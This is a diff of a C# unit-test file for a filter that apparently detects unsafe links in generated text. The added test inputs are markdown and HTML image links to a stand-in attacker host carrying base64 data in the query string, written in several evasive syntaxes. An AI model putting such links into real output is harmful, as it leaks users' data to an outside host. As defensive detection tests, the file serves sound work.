@@ -12,6 +12,13 @@ public sealed class OutputRuleTests
     [InlineData("Go to https://bank.example@evil.example/login now.", "hidden-host")]
     [InlineData("Go to https://xn--bnk-5cd.example/ now.", "hidden-host")]
     [InlineData("Go to [https://bank.example](https://evil.example/login).", "misleading-link")]
+    [InlineData("![x](//evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8)", "picture-with-data")]
+    [InlineData("![x]( <https://evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8>)", "picture-with-data")]
+    [InlineData("<img alt=x src = '//evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8'>", "picture-with-data")]
+    [InlineData("<img src=\\\\evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8>", "picture-with-data")]
+    [InlineData("![x][1] is it.\n\n[1]: https://evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8", "picture-with-data")]
+    [InlineData("![x]\n\n  [x]:\n  <//evil.example/p.png?d=aGVsbG8gd29ybGQgaGVsbG8>", "picture-with-data")]
+    [InlineData("Go to [https://bank.example](//evil.example/login).", "misleading-link")]
     public void Links_that_harm_are_found(string text, string reason) => new UnsafeLinks([]).Find(text).ShouldHaveSingleItem().Reason.ShouldBe(reason);
 
     [Theory]
@@ -19,6 +26,7 @@ public sealed class OutputRuleTests
     [InlineData("![logo](https://example.com/logo.png) and ![v](https://example.com/l.png?v=2)")]
     [InlineData("[docs.example.com](https://docs.example.com/start)")]
     [InlineData("At 10:30: note: the ratio is 3:1, see std::vector and http://127.0.0.1:8080/.")]
+    [InlineData("[1]: https://docs.example.com/a?b=1\n[docs.example.com](//docs.example.com/start) // a comment, a path C:\\\\x and a//b")]
     public void Links_that_do_not_are_left_alone(string text) => new UnsafeLinks([]).Find(text).ShouldBeEmpty();
 
     [Theory]
@@ -36,7 +44,19 @@ public sealed class OutputRuleTests
         var links = new UnsafeLinks(["example.com"]);
         links.Find("https://docs.example.com/a and https://example.com").ShouldBeEmpty();
         links.Find("https://notexample.com/ and https://example.com.evil.test/").Count.ShouldBe(2);
+        links.Find("[a](//docs.example.com/a) // evil.test").ShouldBeEmpty();
+        links.Find("[a](//evil.test/a) <a href=\"//evil.test\">b</a> and\n[c]: //evil.test/c").Count.ShouldBe(3);
     }
+
+    [Theory]
+    [InlineData("[")]
+    [InlineData("![")]
+    [InlineData("\n[")]
+    [InlineData("<img ")]
+    [InlineData("href=")]
+    [InlineData("](//")]
+    public void A_text_of_nothing_but_openings_is_read_in_its_time(string opening) =>
+        new UnsafeLinks([]).Find(string.Concat(Enumerable.Repeat(opening, 4_000 / opening.Length)) + " see https://example.com/").ShouldBeEmpty();
 
     [Fact]
     public void Phrases_are_whole_words_in_any_case_and_over_line_breaks()
